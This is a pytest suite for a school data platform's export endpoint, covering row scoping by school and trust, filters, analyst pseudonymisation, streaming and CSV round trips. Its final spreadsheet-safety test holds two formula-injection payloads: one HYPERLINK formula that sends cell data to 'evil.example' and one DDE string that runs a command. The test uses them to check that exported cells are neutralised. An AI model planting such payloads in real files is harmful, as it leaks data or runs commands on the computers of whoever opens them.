"""GET /exports/{resource}: every row of a school or trust, streamed as CSV or NDJSON in the
import's column names, pseudonymised for analysts, refused outside the caller's scope."""

import asyncio
import csv
import io
import json
import uuid
from collections.abc import MutableMapping
from dataclasses import dataclass, field
from datetime import date
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text
from sqlalchemy.pool import QueuePool

from api.runtime import Runtime
from domain.assessment import judgement_service as judgements
from domain.kernel.access import Principal
from domain.kernel.calendar import AcademicYear
from domain.kernel.clock import SYSTEM_CLOCK
from domain.outcomes import attendance_service as attendance
from domain.outcomes import destination_service as destinations
from domain.outcomes import qualification_service as qualifications
from domain.outcomes.attendance import Session
from domain.outcomes.destination import DestinationCategory
from domain.outcomes.qualification import EntryStatus, QualificationKind, QualificationLevel
from domain.pupils import pupil_service as pupils
from domain.pupils.pupil import Enrolment
from domain.targets import target_service as targets
from tests.factories import World, make_upn

URL = "/api/v1/exports/{}"
RESOURCES = ("pupils", "judgements", "targets", "attendance", "qualifications", "destinations")
#: the column naming each resource's row
ID_COLUMN = {
    "pupils": "stepwise_pupil_id",
    "judgements": "judgement_id",
    "targets": "target_id",
    "attendance": "mark_id",
    "qualifications": "entry_id",
    "destinations": "destination_id",
}
IDENTIFYING = {"upn", "mis_id", "forename", "surname", "date_of_birth", "stepwise_pupil_id"}


@dataclass
class Seeded:
    """A trust whose two schools have rows of every kind, each id filed by resource."""

    world: World
    leaver_id: uuid.UUID  # a pupil of `school` whose only enrolment ended in 2021
    ids: dict[str, dict[str, uuid.UUID]] = field(default_factory=dict)  # resource -> name -> id

    def of(self, resource: str, *names: str) -> set[str]:
        return {str(self.ids[resource][n]) for n in names}


@pytest.fixture(scope="module")
async def seeded(runtime: Runtime) -> Seeded:
    world = await World.build(runtime)
    system, uow = Principal.system(), runtime.system_uow
    amira, ben, cara = world.pupils[0], world.pupils[1], world.other_pupil
    read, maths = world.framework.strands[0].id, world.framework.strands[1].id

    def step(code: str) -> uuid.UUID:
        found = world.framework.step_by_code(code)
        assert found is not None
        return found.id

    leaver = await pupils.enrol_pupil(
        uow(),
        system,
        pupils.EnrolPupil(
            school_id=world.school.id,
            forename="Dev",
            surname="Leaver",
            date_of_birth=date(2005, 1, 2),
            gender=amira.gender,
            year_group="14",
            upn=make_upn(),
            enrolments=[Enrolment(date(2019, 9, 2), date(2021, 7, 20))],
        ),
    )
    seeded = Seeded(world, leaver.id)
    seeded.ids["pupils"] = {"amira": amira.id, "ben": ben.id, "cara": cara.id, "dev": leaver.id}

    recorded = {}
    for name, pupil, strand, module, code, on in (
        ("amira_read_1", amira, read, world.modules[0], "S2", date(2023, 10, 2)),
        ("amira_maths_2", amira, maths, world.modules[1], "S3", date(2024, 2, 1)),
        ("ben_read_3", ben, read, world.modules[2], "S4", date(2024, 5, 1)),
        ("cara_read_1", cara, read, world.other_module, "S1", date(2023, 10, 5)),
    ):
        judgement = await judgements.record_judgement(
            uow(),
            system,
            judgements.RecordJudgement(
                pupil.id, strand, module.id, step(code), assessed_on=on, assessor="Ms Patel"
            ),
        )
        recorded[name] = judgement.id
    seeded.ids["judgements"] = recorded

    seeded.ids["targets"] = {}
    for name, pupil, strand, year, code, on in (
        ("amira_2023", amira, read, 2023, "S5", date(2023, 9, 20)),
        ("ben_2024", ben, read, 2024, "S6", date(2024, 9, 10)),
        ("cara_2023", cara, maths, 2023, "S3", date(2023, 9, 25)),
    ):
        target = await targets.set_target(
            uow(),
            system,
            targets.SetTarget(
                pupil.id, strand, AcademicYear(year), step(code), "next steps", set_on=on
            ),
        )
        seeded.ids["targets"][name] = target.id

    await attendance.record_marks(
        uow(),
        system,
        [
            attendance.MarkIn(amira.id, date(2023, 10, 2), Session.AM, "/"),
            attendance.MarkIn(amira.id, date(2024, 2, 1), Session.PM, "I"),
            attendance.MarkIn(cara.id, date(2023, 10, 3), Session.AM, "/"),
        ],
    )
    async with runtime.database.engine.connect() as connection:
        marks = await connection.execute(
            text(
                "SELECT id, pupil_id, session_date FROM attendance_marks WHERE pupil_id = ANY(:p)"
            ),
            {"p": [amira.id, cara.id]},
        )
        seeded.ids["attendance"] = {
            f"{'amira' if p == amira.id else 'cara'}_{day.isoformat()}": i for i, p, day in marks
        }

    seeded.ids["qualifications"] = {}
    for name, pupil, status, result, awarded_on in (
        ("amira_english", amira, EntryStatus.COMPLETED, "pass", date(2024, 6, 20)),
        ("ben_maths", ben, EntryStatus.ENTERED, None, None),
        ("cara_english", cara, EntryStatus.COMPLETED, "pass", date(2023, 12, 1)),
    ):
        entry = await qualifications.record_entry(
            uow(),
            system,
            qualifications.RecordEntry(
                pupil.id,
                "Pearson",
                "Functional Skills",
                QualificationLevel.ENTRY_3,
                QualificationKind.FUNCTIONAL_SKILLS,
                subject="English" if "english" in name else "Maths",
                status=status,
                result=result,
                awarded_on=awarded_on,
            ),
        )
        seeded.ids["qualifications"][name] = entry.id

    seeded.ids["destinations"] = {}
    for name, pupil, left_on, category, sustained in (
        ("ben", ben, date(2024, 7, 19), DestinationCategory.FE_COLLEGE, True),
        ("cara", cara, date(2023, 12, 15), DestinationCategory.EMPLOYMENT, None),
    ):
        destination = await destinations.record_destination(
            uow(),
            system,
            destinations.RecordDestination(
                pupil.id, left_on, category, provider="Weald College", sustained=sustained
            ),
        )
        seeded.ids["destinations"][name] = destination.id
    return seeded


async def _export(
    client: httpx.AsyncClient, world: World, resource: str, who: str = "school_admin", **params: Any
) -> httpx.Response:
    return await client.get(URL.format(resource), params=params, headers=world.headers(who))


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    """The body's records, whichever format it came in (NDJSON values as text)."""
    assert response.status_code == 200, response.text
    if response.headers["content-type"].startswith("text/csv"):
        return list(csv.DictReader(io.StringIO(response.text)))
    return [
        {k: "" if v is None else str(v).lower() if isinstance(v, bool) else str(v)
         for k, v in json.loads(line).items()}
        for line in response.text.splitlines()
    ]  # fmt: skip


def _ids(response: httpx.Response, resource: str) -> set[str]:
    return {row[ID_COLUMN[resource]] for row in _rows(response)}


# --- what each resource gives ---------------------------------------------------------------

SCHOOL_ROWS: dict[str, tuple[str, ...]] = {
    "pupils": ("amira", "ben", "dev"),
    "judgements": ("amira_read_1", "amira_maths_2", "ben_read_3"),
    "targets": ("amira_2023", "ben_2024"),
    "attendance": ("amira_2023-10-02", "amira_2024-02-01"),
    "qualifications": ("amira_english", "ben_maths"),
    "destinations": ("ben",),
}


@pytest.mark.parametrize("format", ["csv", "ndjson"])
@pytest.mark.parametrize("resource", RESOURCES)
async def test_a_school_export_has_exactly_that_schools_rows_in_either_format(
    client: httpx.AsyncClient, seeded: Seeded, resource: str, format: str
) -> None:
    world = seeded.world
    response = await _export(client, world, resource, school_id=str(world.school.id), format=format)

    assert _ids(response, resource) == seeded.of(resource, *SCHOOL_ROWS[resource])
    assert {r["school_id"] for r in _rows(response)} == {str(world.school.id)}
    media = "text/csv; charset=utf-8" if format == "csv" else "application/x-ndjson"
    assert response.headers["content-type"] == media
    assert response.headers["content-disposition"] == (
        f'attachment; filename="{resource}-{SYSTEM_CLOCK.today().isoformat()}.{format}"'
    )


async def test_a_csv_export_starts_with_the_import_columns_then_readable_values(
    client: httpx.AsyncClient, seeded: Seeded
) -> None:
    world = seeded.world
    response = await _export(client, world, "judgements", school_id=str(world.school.id))

    header = response.text.splitlines()[0].split(",")
    assert header[:11] == [
        "upn", "mis_id", "framework", "strand", "academic_year", "module", "step", "kind",
        "assessed_on", "assessor", "note",
    ]  # fmt: skip
    first = next(
        r
        for r in _rows(response)
        if r["judgement_id"] == str(seeded.ids["judgements"]["amira_maths_2"])
    )
    assert first["upn"] == world.pupils[0].upn
    assert (first["framework"], first["strand"], first["step"], first["step_label"]) == (
        "Small steps",
        "MATH",
        "S3",
        "Step 3",
    )
    assert (first["academic_year"], first["module"], first["assessed_on"]) == (
        "2023/24",
        "2",
        "2024-02-01",
    )
    assert (first["kind"], first["assessor"], first["stepwise_pupil_id"]) == (
        "checkpoint",
        "Ms Patel",
        str(world.pupils[0].id),
    )


async def test_pupil_flags_and_destination_sustained_read_true_or_false(
    client: httpx.AsyncClient, seeded: Seeded
) -> None:
    world = seeded.world
    pupils_out = _rows(await _export(client, world, "pupils", school_id=str(world.school.id)))
    leavers = _rows(await _export(client, world, "destinations", school_id=str(world.school.id)))

    amira = next(p for p in pupils_out if p["stepwise_pupil_id"] == str(world.pupils[0].id))
    assert (amira["forename"], amira["surname"], amira["date_of_birth"]) == (
        "Amira",
        "Khan",
        "2011-05-17",
    )
    assert (amira["sen_provision"], amira["primary_need"]) == ("E", "ASD")
    assert (amira["pupil_premium"], amira["fsm"], amira["joined_on"]) == (
        "true",
        "false",
        "2022-09-01",
    )
    assert amira["school_urn"] == world.school.urn
    assert [(d["category"], d["sustained"], d["provider"]) for d in leavers] == [
        ("fe_college", "true", "Weald College")
    ]


# --- filters ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("resource", "params", "expected"),
    [
        ("judgements", {"since": "2024-01-01"}, ("amira_maths_2", "ben_read_3")),
        ("judgements", {"until": "2024-02-01"}, ("amira_read_1", "amira_maths_2")),
        ("judgements", {"academic_year": "2023/24", "module": 2}, ("amira_maths_2",)),
        ("judgements", {"academic_year": "2024/25"}, ()),
        ("targets", {"academic_year": "2024/25"}, ("ben_2024",)),
        ("targets", {"until": "2023-12-31"}, ("amira_2023",)),
        ("attendance", {"academic_year": "2023/24", "module": 2}, ("amira_2024-02-01",)),
        ("attendance", {"since": "2023-10-02", "until": "2023-10-02"}, ("amira_2023-10-02",)),
        ("qualifications", {"since": "2024-01-01"}, ("amira_english",)),
        ("destinations", {"academic_year": "2022/23"}, ()),
        ("destinations", {"academic_year": "2023/24", "module": 3}, ("ben",)),
        ("pupils", {"academic_year": "2023/24"}, ("amira", "ben")),
    ],
)
async def test_filters_narrow_rows_by_their_own_date_year_and_module(
    client: httpx.AsyncClient,
    seeded: Seeded,
    resource: str,
    params: dict[str, Any],
    expected: tuple[str, ...],
) -> None:
    world = seeded.world
    response = await _export(client, world, resource, school_id=str(world.school.id), **params)

    assert _ids(response, resource) == seeded.of(resource, *expected)


async def test_pupils_on_roll_in_a_window_include_a_leaver_only_while_enrolled(
    client: httpx.AsyncClient, seeded: Seeded
) -> None:
    world = seeded.world
    school = str(world.school.id)
    then = await _export(client, world, "pupils", school_id=school, since="2021-07-01")
    now = await _export(client, world, "pupils", school_id=school, since="2021-07-21")

    assert str(seeded.leaver_id) in _ids(then, "pupils")
    assert str(seeded.leaver_id) not in _ids(now, "pupils")


# --- school, trust and scope ------------------------------------------------------------------


@pytest.mark.parametrize("resource", RESOURCES)
async def test_a_trust_export_covers_every_school_of_the_trust(
    client: httpx.AsyncClient, seeded: Seeded, resource: str
) -> None:
    world = seeded.world
    by_trust = await _export(client, world, resource, "trust_admin", trust_id=str(world.trust.id))
    unfiltered = await _export(client, world, resource, "trust_admin")

    expected = {str(i) for i in seeded.ids[resource].values()}
    assert _ids(by_trust, resource) == expected
    assert _ids(unfiltered, resource) == expected
    assert {r["school_id"] for r in _rows(by_trust)} == {
        str(world.school.id),
        str(world.other_school.id),
    }


async def test_a_teacher_without_a_filter_gets_only_their_own_school(
    client: httpx.AsyncClient, seeded: Seeded
) -> None:
    world = seeded.world
    mine = await _export(client, world, "judgements", "teacher")
    theirs = await _export(client, world, "judgements", "other_teacher")

    assert _ids(mine, "judgements") == seeded.of("judgements", *SCHOOL_ROWS["judgements"])
    assert _ids(theirs, "judgements") == seeded.of("judgements", "cara_read_1")


@pytest.mark.parametrize("resource", RESOURCES)
async def test_an_analyst_export_names_pupils_only_by_their_pseudonym(
    client: httpx.AsyncClient, seeded: Seeded, resource: str
) -> None:
    world = seeded.world
    response = await _export(client, world, resource, "trust_analyst", trust_id=str(world.trust.id))
    ndjson = await _export(client, world, resource, "trust_analyst", format="ndjson")

    rows = _rows(response)
    assert rows
    assert IDENTIFYING & set(rows[0]) == set()
    assert {"note", "rationale"} & set(rows[0]) == set()
    assert rows == _rows(ndjson)
    every_pupil = [*world.pupils, world.other_pupil]
    for secret in [p.upn or "" for p in every_pupil] + [p.surname for p in every_pupil]:
        assert secret not in response.text
    for pupil in every_pupil:
        assert str(pupil.id) not in response.text
    pseudonyms = set()
    for pupil_id in seeded.ids["pupils"].values():
        shown = await client.get(
            f"/api/v1/pupils/{pupil_id}", headers=world.headers("trust_analyst")
        )
        pseudonyms.add(shown.json()["pseudonym"])
    assert {r["pseudonym"] for r in rows} <= pseudonyms


@pytest.mark.parametrize("resource", RESOURCES)
async def test_another_trust_or_school_is_refused_without_a_byte_of_data(
    client: httpx.AsyncClient, seeded: Seeded, other_world: World, resource: str
) -> None:
    world = seeded.world
    attempts = [
        await _export(client, other_world, resource, "trust_admin", school_id=str(world.school.id)),
        await _export(client, other_world, resource, "trust_admin", trust_id=str(world.trust.id)),
        await _export(client, world, resource, "other_teacher", school_id=str(world.school.id)),
        await _export(client, world, resource, "teacher", school_id=str(world.other_school.id)),
    ]
    own = await _export(client, other_world, resource, "trust_admin")

    assert [r.status_code for r in attempts] == [403, 403, 403, 403]
    assert all(r.headers["content-type"] == "application/problem+json" for r in attempts)
    assert _ids(own, resource) & {str(i) for i in seeded.ids[resource].values()} == set()


# --- bad parameters ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("resource", "params", "field"),
    [
        ("judgements", {"module": "2"}, "module"),
        ("judgements", {"academic_year": "2024-25"}, "academic_year"),
        ("judgements", {"academic_year": "2024/26"}, "academic_year"),
        ("judgements", {"academic_year": "2023/24", "module": "0"}, "module"),
        ("judgements", {"since": "2024-03-01", "until": "2024-02-01"}, "until"),
        ("judgements", {"since": "yesterday"}, "since"),
        ("judgements", {"format": "xlsx"}, "format"),
        ("judgements", {"school_id": "not-a-uuid"}, "school_id"),
        ("judgements", {"school_id": "{school}", "trust_id": "{trust}"}, "trust_id"),
        ("targets", {"academic_year": "2023/24", "module": "1"}, "module"),
        ("teachers", {}, "resource"),
    ],
)
async def test_bad_parameters_are_a_422_naming_the_field_before_anything_streams(
    client: httpx.AsyncClient, seeded: Seeded, resource: str, params: dict[str, str], field: str
) -> None:
    world = seeded.world
    ids = {"school": str(world.school.id), "trust": str(world.trust.id)}
    response = await _export(
        client, world, resource, "trust_admin", **{k: v.format(**ids) for k, v in params.items()}
    )

    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert field in [e["field"] for e in response.json()["errors"]]


# --- round trip ------------------------------------------------------------------------------


@pytest.mark.parametrize("format", ["csv", "ndjson"])
async def test_a_judgements_export_reimports_with_every_row_unchanged(
    client: httpx.AsyncClient, world: World, format: str
) -> None:
    header = "UPN,Strand,Academic Year,Module,Step,Kind,Date,Teacher,Notes"
    rows = [
        f'{world.pupils[0].upn},READ,2023/24,1,S2,baseline,2023-10-02,Ms Patel,"Read, aloud"',
        f"{world.pupils[0].upn},MATH,2023/24,2,S3,checkpoint,2024-02-01,Mr Shah,",
        f'{world.pupils[1].upn},READ,2023/24,3,S5,exit,2024-05-01,Ms Patel,"two\nlines"',
    ]
    imported = await client.post(
        "/api/v1/imports/judgements",
        params={"school_id": str(world.school.id)},
        content="\n".join([header, *rows]) + "\n",
        headers={**world.headers("teacher"), "Content-Type": "text/csv"},
    )
    assert imported.json()["counts"]["inserted"] == 3, imported.text

    exported = await _export(
        client, world, "judgements", "teacher", school_id=str(world.school.id), format=format
    )
    again = await client.post(
        "/api/v1/imports/judgements",
        params={"school_id": str(world.school.id), "source": f"export.{format}"},
        content=exported.content,
        headers={**world.headers("teacher"), "Content-Type": exported.headers["content-type"]},
    )

    assert again.status_code == 200, again.text
    assert again.json()["rows"] == 3
    assert again.json()["counts"] == {"inserted": 0, "updated": 0, "unchanged": 3}


# --- streaming many rows -----------------------------------------------------------------------

MANY = 20_000


@pytest.fixture(scope="module")
async def crowded(runtime: Runtime) -> World:
    """A school with 1,000 more pupils and 20,000 judgements (1,000 x 2 strands x 10
    modules), written with set-based SQL: the use cases would take minutes."""
    world = await World.build(runtime)
    school, strands = world.school.id, [s.id for s in world.framework.strands]
    step = world.framework.steps[3].id
    statements = [
        """INSERT INTO pupils (school_id, id, upn, mis_id, forename, surname, date_of_birth,
               gender, year_group, version)
           SELECT :school, gen_random_uuid(), NULL, 'M' || n, 'Pupil', 'Number ' || n,
                  DATE '2012-01-01', 'F', '7', 1
           FROM generate_series(1, 1000) n""",
        """INSERT INTO modules (school_id, id, academic_year, sequence, name, starts_on, ends_on,
               version)
           SELECT :school, gen_random_uuid(), y || '/' || lpad(((y + 1) % 100)::text, 2, '0'),
                  s, 'Term ' || s, make_date(y + 1, s * 2, 1), make_date(y + 1, s * 2, 20), 1
           FROM generate_series(2014, 2018) y, generate_series(1, 2) s""",
        """INSERT INTO judgements (school_id, id, pupil_id, strand_id, module_id, step_id, kind,
               assessed_on, assessor, note, evidence, moderation_state, recorded_by,
               recorded_at, version)
           SELECT :school, gen_random_uuid(), p.id, st, m.id, :step, 'checkpoint', m.starts_on,
                  'Ms Patel', '', '{}', 'unmoderated', 'test', now(), 1
           FROM pupils p, modules m, unnest(CAST(:strands AS uuid[])) st
           WHERE p.school_id = :school AND p.mis_id LIKE 'M%'
             AND m.school_id = :school AND m.academic_year < '2019'""",
    ]
    async with runtime.database.engine.begin() as connection:
        for statement in statements:
            await connection.execute(
                text(statement), {"school": school, "step": step, "strands": strands}
            )
        # as autovacuum would after a bulk load: the planner needs to know the sizes
        await connection.execute(text("ANALYZE pupils, modules, judgements"))
    return world


async def test_a_large_export_streams_every_row_and_returns_its_connection(
    client: httpx.AsyncClient, crowded: World, runtime: Runtime
) -> None:
    pool = runtime.database.engine.pool
    assert isinstance(pool, QueuePool)
    before = pool.checkedout()

    async with client.stream(
        "GET",
        URL.format("judgements"),
        params={"school_id": str(crowded.school.id)},
        headers=crowded.headers("teacher"),
    ) as response:
        assert response.status_code == 200
        lines = [line async for line in response.aiter_lines() if line]

    assert len(lines) == MANY + 1
    assert len({line.rsplit(",", 3)[1] for line in lines[1:]}) == MANY  # judgement ids
    assert pool.checkedout() == before


async def test_a_client_leaving_mid_stream_ends_the_transaction_and_frees_the_connection(
    app: FastAPI, crowded: World, runtime: Runtime
) -> None:
    pool = runtime.database.engine.pool
    assert isinstance(pool, QueuePool)
    before = pool.checkedout()
    chunks: list[bytes] = []
    finished: list[bool] = []
    gone = asyncio.Event()

    async def receive() -> MutableMapping[str, Any]:
        if not chunks:
            return {"type": "http.request", "body": b"", "more_body": False}
        await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message: MutableMapping[str, Any]) -> None:
        if message["type"] == "http.response.body":
            chunks.append(message["body"])
            finished.append(not message.get("more_body", False))
            gone.set()  # the client reads the header row and hangs up

    scope = _http_scope(
        "/api/v1/exports/judgements", f"school_id={crowded.school.id}", crowded.tokens["teacher"]
    )
    await app(scope, receive, send)

    assert chunks[0].startswith(b"upn,mis_id,")
    assert True not in finished  # the body was never completed
    assert sum(c.count(b"\n") for c in chunks) < MANY
    assert pool.checkedout() == before
    async with runtime.database.engine.connect() as connection:
        idle = await connection.scalar(
            text(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
                " AND state LIKE 'idle in transaction%' AND pid <> pg_backend_pid()"
            )
        )
    assert idle == 0


def _http_scope(path: str, query: str, token: str) -> dict[str, Any]:
    return {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": query.encode(),
        "headers": [(b"host", b"stepwise.test"), (b"authorization", f"Bearer {token}".encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("stepwise.test", 80),
    }


# --- spreadsheet safety ----------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_NOTE = "+cmd|' /C calc'!A1"


async def test_cells_a_spreadsheet_would_run_are_quoted_in_csv_raw_in_ndjson_and_reimport(
    client: httpx.AsyncClient, world: World
) -> None:
    """A pupil named like a formula and a note that runs a command: inert when a school opens
    the CSV in Excel, as stored in NDJSON, and an export re-imports with every row unchanged."""
    system, uow = Principal.system(), world.runtime.system_uow
    await pupils.update_pupil(
        uow(), system, pupils.UpdatePupil(world.pupil.id, None, forename=FORMULA_NAME)
    )
    await judgements.record_judgement(
        uow(),
        system,
        judgements.RecordJudgement(
            world.pupil.id,
            world.framework.strands[0].id,
            world.modules[0].id,
            world.framework.steps[1].id,
            assessor="@Ms Patel",
            note=FORMULA_NOTE,
        ),
    )
    school = {"school_id": str(world.school.id)}

    for resource, column, value in (
        ("pupils", "forename", FORMULA_NAME),
        ("judgements", "note", FORMULA_NOTE),
        ("judgements", "assessor", "@Ms Patel"),
    ):
        as_csv = _rows(await _export(client, world, resource, format="csv", **school))
        as_ndjson = _rows(await _export(client, world, resource, format="ndjson", **school))
        assert [r[column] for r in as_csv if r[column].lstrip("'") == value] == ["'" + value]
        assert [r[column] for r in as_ndjson if r[column] == value] == [value]

    for resource in ("pupils", "judgements"):
        exported = await _export(client, world, resource, format="csv", **school)
        again = await client.post(
            f"/api/v1/imports/{resource}",
            params={**school, "source": "export.csv"},
            content=exported.content,
            headers={**world.headers("school_admin"), "Content-Type": "text/csv"},
        )
        assert again.status_code == 200, again.text
        counts = again.json()["counts"]
        assert (counts["inserted"], counts["updated"]) == (0, 0), again.text
    stored = await pupils.get_pupil(uow(), system, world.pupil.id, world.runtime.pseudonymiser)
    assert stored.forename == FORMULA_NAME
